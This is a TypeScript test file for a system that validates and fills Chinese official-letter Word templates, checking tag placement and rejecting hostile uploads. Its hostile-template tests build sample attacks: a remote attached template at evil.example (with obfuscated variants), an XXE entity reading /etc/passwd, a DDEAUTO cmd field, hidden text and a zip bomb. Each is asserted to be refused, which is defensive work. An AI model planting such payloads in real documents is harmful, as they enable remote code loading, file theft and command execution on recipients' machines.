import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { day } from '../../kernel/day.ts'
import { blockTags, isWholeIn, lackingIn, neededFor, valuesOf } from '../../kernel/letter-tags.ts'
import { readTemplate } from '../../platform/office-template.ts'
import { filledTemplate, templateText } from '../../platform/untrusted/template.ts'
import { letterKindList, samplesOf } from '../requests.ts'
import { neededOf, starterOf } from './actions-own.ts'
import { approvalFault, tagFault, tagsHeld } from './own-template.ts'

const kind = 'D12'

type Parts = Record<string, Uint8Array>

const body = 'word/document.xml'

const paragraphs = (...texts: string[]) =>
  texts.map((text) => ({ where: '正文', text, boxed: false }) as const)

const whole = [
  '{发文机关标志}',
  '{文号}{标注}',
  '{标题}',
  '{申请人}：',
  '{正文}',
  '{法律依据}',
  '{救济途径}',
  '{附件}',
  '{落款}',
  '{日期}',
  '（{联系方式}）',
]

const faultsOf = (...texts: string[]): string =>
  tagFault(paragraphs(...texts), { kind, needed: neededOf(kind) })?.fields?.['file'] ?? ''

const without = (tag: string): string[] => whole.map((text) => text.replace(`{${tag}}`, ''))

const changed = (from: string, to: string): string[] =>
  whole.map((text) => (text === from ? to : text))

describe('本单位 Word 模板的标签', () => {
  test('标签齐全、次序正确的可以使用', () => {
    assert.equal(faultsOf(...whole), '')
    assert.deepEqual(tagsHeld(paragraphs('{ 文号 }', '{文号}{标题}')), ['文号', '标题'])
  })

  test('未知的、不成对的标签，说明在第几段，列出可以使用的标签', () => {
    const unknown = faultsOf(...changed('{标题}', '关于{领导}的{标题}'))
    assert.match(unknown, /正文第 3 段“关于{领导}的{标题}”：没有{领导}这个标签/)
    assert.match(unknown, /可以使用的标签：{发文机关标志}、{文号}、/)
    for (const broken of ['{标题', '标题}', '{{标题}}', '{标题}}'])
      assert.match(faultsOf(...changed('{标题}', broken)), /正文第 3 段.*花括号没有成对/, broken)
    assert.match(faultsOf(...changed('{标题}', '｛标题｝')), /要用半角花括号/)
    assert.match(faultsOf(...changed('{正文}', '{#正文}')), /没有{#正文}这个标签/)
  })

  test('缺少任何一个部分的不能使用，救济途径和法律依据也不例外', () => {
    for (const tag of ['救济途径', '法律依据', '正文', '附件', '文号', '标注', '落款', '日期'])
      assert.match(faultsOf(...without(tag)), new RegExp(`缺少{${tag}}`), tag)
    assert.match(faultsOf(...without('申请人')), /缺少{主送}/)
  })

  test('成段的标签要单独成段、各一次、按次序，只在正文里，不在文本框里', () => {
    assert.match(faultsOf(...changed('{正文}', '如下：{正文}')), /{正文}要单独成段/)
    assert.match(faultsOf(...whole, '{救济途径}'), /{救济途径}只能出现一次/)
    const turned = [...whole]
    turned.splice(4, 3, '{救济途径}', '{法律依据}', '{正文}')
    assert.match(faultsOf(...turned), /要按这个次序放/)
    for (const [place, sentence] of [
      [{ where: '页眉', boxed: false }, /{正文}只能放在正文里/],
      [{ where: '正文', boxed: true }, /文本框里不能放标签/],
    ] as const) {
      const moved = paragraphs(...whole).map((one) =>
        one.text === '{正文}' ? { ...one, ...place } : one,
      )
      assert.match(
        tagFault(moved, { kind, needed: neededOf(kind) })?.fields?.['file'] ?? '',
        sentence,
      )
    }
  })

  test('固定文字里不能写法律依据、决定、期限和救济途径', () => {
    for (const text of ['不得申请行政复议', '依据《条例》', '本机关决定如下', '15个工作日'])
      assert.match(faultsOf(...whole, text), /固定文字不能写法律依据、决定、期限和救济途径/, text)
    assert.equal(faultsOf(...whole, '欢迎对我们的工作提出意见。'), '')
  })

  test('发给申请人以外的人的文书，没有“申请人”这个标签', () => {
    const needed = neededOf('D07')
    const fault = tagFault(paragraphs('{申请人}'), { kind: 'D07', needed })
    assert.match(fault?.fields?.['file'] ?? '', /没有{申请人}这个标签/)
    assert.ok(needed.includes('回执'))
  })

  test('上传的人和被其代理的人都不能审核；启用日期不早于今天', () => {
    const today = day('2026-03-02')
    const own = { status: 'waiting', uploadedBy: '甲' } as const
    const codeOf = (effectiveOn: string, ...personIds: string[]): string | undefined =>
      approvalFault(own, { personIds, effectiveOn: day(effectiveOn), today })?.code
    assert.equal(codeOf('2026-03-02', '乙'), undefined)
    assert.equal(codeOf('2026-03-02', '乙', '甲'), 'templates.second-person')
    assert.equal(codeOf('2026-03-01', '乙'), 'templates.past')
  })
})

describe('文书套用模板', () => {
  test('每种文书的底稿都合格，每个样本套用以后逐段逐字相同、次序不变', async () => {
    for (const { kind: one } of letterKindList) {
      const starter = await starterOf(one)
      const read = await templateText(starter)
      assert.ok(read.ok, one)
      assert.equal(tagFault(read.value, { kind: one, needed: neededOf(one) }), undefined, one)
      for (const letter of samplesOf(one)) {
        assert.ok(isWholeIn(letter, tagsHeld(read.value)), one)
        const filled = await templateText(await filledTemplate(starter, valuesOf(letter)))
        assert.ok(filled.ok)
        const lines = filled.value.map(({ text }) => text)
        assert.deepEqual(lackingIn(letter, lines.join('')), [], one)
        const legal = blockTags.flatMap((tag) => valuesOf(letter)[tag])
        const places = legal.map((text) => lines.indexOf(text))
        assert.ok(
          places.every((place, at) => place > (places[at - 1] ?? -1)),
          `${one}: ${legal.find((_, at) => places[at] === -1)}`,
        )
        assert.doesNotMatch(lines.join(''), /[{}]/)
      }
    }
  })

  test('Word 把标签拆成几段格式不同的文字，照样认得，段落格式照样保留', async () => {
    const parts: Parts = unzipSync(await starterOf(kind))
    const text = strFromU8(parts[body] ?? new Uint8Array())
    parts[body] = strToU8(
      text.replace(
        '{救济途径}',
        '{救</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t>济途径}',
      ),
    )
    const [letter] = samplesOf(kind)
    assert.ok(letter)
    const split = zipSync(parts)
    const read = await templateText(split)
    assert.ok(read.ok)
    assert.equal(tagFault(read.value, { kind, needed: neededOf(kind) }), undefined)
    const filled = await filledTemplate(split, valuesOf(letter))
    const lines = await templateText(filled)
    assert.ok(lines.ok)
    assert.deepEqual(lackingIn(letter, lines.value.map((one) => one.text).join('')), [])
    const xml = strFromU8(unzipSync(filled)[body] ?? new Uint8Array())
    const remedies = xml.split('<w:p>').filter((one) => one.includes('申请行政复议'))
    assert.ok(remedies.length > 0)
    assert.ok(remedies.every((one) => one.includes('w:firstLineChars="200"')))
  })

  test('模板没有文书需要的部分时，不用它，免得少印一段', () => {
    const [letter] = samplesOf('D12')
    assert.ok(letter)
    const needed = neededFor([letter])
    assert.equal(isWholeIn(letter, needed), true)
    for (const tag of needed)
      assert.equal(
        isWholeIn(
          letter,
          needed.filter((one) => one !== tag),
        ),
        false,
        tag,
      )
  })
})

/** The starter with parts of it changed by hand. */
const hostile = async (change: (parts: Parts) => void): Promise<string> => {
  const parts: Parts = unzipSync(await starterOf(kind))
  change(parts)
  const answer = await readTemplate(zipSync(parts))
  return answer.ok ? '' : answer.refusal.message
}

const inBody =
  (xml: string) =>
  (parts: Parts): void => {
    const text = strFromU8(parts[body] ?? new Uint8Array())
    parts[body] = strToU8(text.replace('<w:body>', `<w:body>${xml}`))
  }

const run = (xml: string): ((parts: Parts) => void) => inBody(`<w:p><w:r>${xml}</w:r></w:p>`)

const relation = (xml: string, encoding: BufferEncoding = 'utf8'): ((parts: Parts) => void) => {
  const relations = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${xml}</Relationships>`
  return (parts) => {
    parts['word/_rels/settings.xml.rels'] = Uint8Array.from(Buffer.from(relations, encoding))
  }
}

const outside = (mode: string): string =>
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="${mode}"/>`

describe('有害的模板', () => {
  for (const [what, change, sentence] of [
    ['宏', (parts: Parts) => void (parts['word/vbaProject.bin'] = strToU8('x')), /宏、控件/],
    [
      '嵌入对象',
      (parts: Parts) => void (parts['word/embeddings/a.xlsx'] = strToU8('x')),
      /宏、控件/,
    ],
    ['外部模板', relation(outside('External')), /文件以外的内容/],
    ['写法曲折的外部链接', relation(outside('&#69;xternal')), /文件以外的内容/],
    ['换了编码的外部链接', relation(outside('External'), 'utf16le'), /编码/],
    [
      '外部实体',
      (parts: Parts) =>
        void (parts[body] = strToU8(
          `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${strFromU8(parts[body] ?? new Uint8Array())}`,
        )),
      /外部实体/,
    ],
    ['取外部文件的域', run('<w:instrText>INCLUDETEXT "c:\\a.txt"</w:instrText>'), /不能有域/],
    [
      '拆开写的域',
      run('<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText>'),
      /不能有域/,
    ],
    ['简写的域', inBody('<w:p><w:fldSimple w:instr="DATE"/></w:p>'), /不能有域/],
    ['图片（印章）', run('<a:blip xmlns:a="a"/>'), /印章更不能放进模板/],
    ['隐藏文字', run('<w:rPr><w:vanish/></w:rPr><w:t>暗</w:t>'), /隐藏文字/],
    [
      '用样式隐藏的文字',
      (parts: Parts) => {
        inBody('<w:p><w:pPr><w:pStyle w:val="Dark"/></w:pPr><w:r><w:t>暗</w:t></w:r></w:p>')(parts)
        const styles = strFromU8(parts['word/styles.xml'] ?? new Uint8Array())
        parts['word/styles.xml'] = strToU8(
          styles.replace(
            '</w:styles>',
            '<w:style w:type="paragraph" w:styleId="Dark"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>',
          ),
        )
      },
      /隐藏文字/,
    ],
    ['修订', inBody('<w:p><w:ins><w:r><w:t>新</w:t></w:r></w:ins></w:p>'), /修订/],
    ['绑定数据的控件', inBody('<w:sdt><w:sdtPr><w:dataBinding/></w:sdtPr></w:sdt>'), /绑定数据/],
    ['嵌入的网页', inBody('<w:altChunk/>'), /嵌入的文件/],
    [
      '压缩炸弹',
      (parts: Parts) => void (parts['word/a.xml'] = new Uint8Array(11 * 1024 * 1024)),
      /过大/,
    ],
    ['不是文档', (parts: Parts) => void delete parts['[Content_Types].xml'], /不是 Word 文档/],
  ] as const)
    test(`${what}不予接收，说明原因`, async () => {
      assert.match(await hostile(change), sentence)
    })

  test('没有改动的底稿可以接收，页码不算有害的域', async () => {
    assert.equal(await hostile(() => {}), '')
    assert.equal(await hostile(run('<w:instrText> PAGE  \\* MERGEFORMAT </w:instrText>')), '')
  })

  test('两个同名的部分，读的和印的可能不是一个，不予接收', async () => {
    const zip = Buffer.from(zipSync(unzipSync(await starterOf(kind))))
    const twin = Buffer.from(
      zip.toString('latin1').replaceAll('word/settings.xml', 'word/document.xml'),
      'latin1',
    )
    const answer = await readTemplate(twin)
    assert.equal(answer.ok, false)
  })

  test('截断的文件不予接收', async () => {
    const answer = await readTemplate((await starterOf(kind)).subarray(0, 4000))
    assert.equal(answer.ok, false)
  })
})
